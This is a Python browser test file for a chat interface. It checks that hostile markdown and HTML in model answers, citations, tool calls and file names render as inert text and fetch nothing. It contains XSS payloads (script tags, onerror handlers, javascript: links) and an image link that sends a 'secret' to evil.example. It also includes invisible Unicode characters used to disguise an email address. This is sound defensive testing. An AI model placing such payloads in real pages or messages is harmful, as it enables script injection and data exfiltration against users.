"""Text of models, documents and people is never read as HTML, and fetches nothing."""

import pytest
from playwright.async_api import expect

from tests.browser.conftest import Visit
from tests.browser.fake_answers import done, said

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

EVIL = "https://evil.example"
HOSTILE = f"""
<script>document.title = "run"; alert(1)</script>
<img src="{EVIL}/a.png" onerror="alert(2)"><svg onload="alert(3)"><image href="{EVIL}/b"/></svg>
<iframe src="{EVIL}/c"></iframe><link rel="stylesheet" href="{EVIL}/d.css"><style>*{{background:url({EVIL}/e)}}</style>

![steal]({EVIL}/f.png?q=secret) ![ref][r] [click](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>)
[reference][r] <javascript:alert(6)> [mixed](JaVa\tScRiPt:alert(7)) {EVIL}/plain

| <img src={EVIL}/g onerror=alert(8)> |
| --- |
| <b onclick="alert(9)">cell</b> |

```html
</code></pre><script>alert(10)</script>
```

[r]: {EVIL}/h.png
"""


@pytest.mark.proves("abuse-13", "abuse-14")
@pytest.mark.parametrize("size", [1, 9, 5000])
async def test_hostile_markdown_runs_and_requests_nothing(visit: Visit, size: int) -> None:
    pieces = [HOSTILE[at : at + size] for at in range(0, len(HOSTILE), size)]
    visit.desk.pause = 0
    visit.desk.scripts["Attack"] = [*(("text.added", {"text": piece}) for piece in pieces), done("unsourced")]
    page = await visit.open()
    await visit.ask("Attack")
    await page.reload()
    prose = page.locator(".answer .prose")
    await expect(prose).to_contain_text("cell")
    assert await prose.locator("img, script, svg, iframe, link, style, [onclick], [onerror]").count() == 0
    schemes = await prose.locator("a").evaluate_all("links => links.map(link => link.protocol)")
    assert set(schemes) == {"https:"}
    rels = await prose.locator("a").evaluate_all("links => links.map(link => link.rel)")
    assert all("noopener" in rel for rel in rels)
    assert await page.title() == "Frontdesk"
    assert visit.foreign_requests == []
    assert visit.complaints == []


@pytest.mark.proves("abuse-13")
async def test_hostile_names_and_titles_are_shown_as_text(visit: Visit) -> None:
    name = '"><img src=x onerror=alert(1)>'
    citation = {
        "number": 1,
        "passage_id": "psg_1",
        "document_id": "doc_1",
        "title": name,
        "source": "javascript:alert(2)",
        "heading": name,
        "quote": name,
    }
    call = {"id": "c1", "name": f"server__{name}", "arguments": name}
    visit.desk.scripts["Attack"] = [
        ("sources.cited", {"citations": [citation]}),
        ("tool.called", {"call": call, "server": name}),
        ("tool.returned", {"result": {"call_id": "c1", "name": name, "text": name, "is_error": False}}),
        *said("See [1]."),
        done("sourced"),
    ]
    page = await visit.open()
    attachment = {"name": f"{name}.txt", "mimeType": "text/plain", "buffer": b"x"}
    await page.locator("input[type=file]").set_input_files([attachment])
    await expect(page.locator(".composer .chip")).to_be_visible()
    await visit.ask("Attack")
    await page.locator(".tool summary").click()
    await page.locator(".prose .cite").click()
    await expect(page.locator(".passage h2")).to_have_text(name)
    assert await page.locator(".passage a").count() == 0
    assert await page.locator("#root img").count() == 0
    assert visit.complaints == []


@pytest.mark.proves("abuse-16")
async def test_invisible_signs_in_arguments_are_made_visible(visit: Visit) -> None:
    page = await visit.open()
    call = {"id": "c1", "name": "mail__send", "arguments": '{"to":"a\u202eb\u200b@example.org"}'}
    visit.desk.scripts["Attack"] = [("tool.called", {"call": call, "server": "mail"}), *said("Sent."), done("notice")]
    await visit.ask("Attack")
    await page.locator(".tool summary").click()
    await expect(page.locator(".tool pre").first).to_contain_text(r"\u{202e}")
    await expect(page.locator(".tool pre").first).to_contain_text(r"\u{200b}")
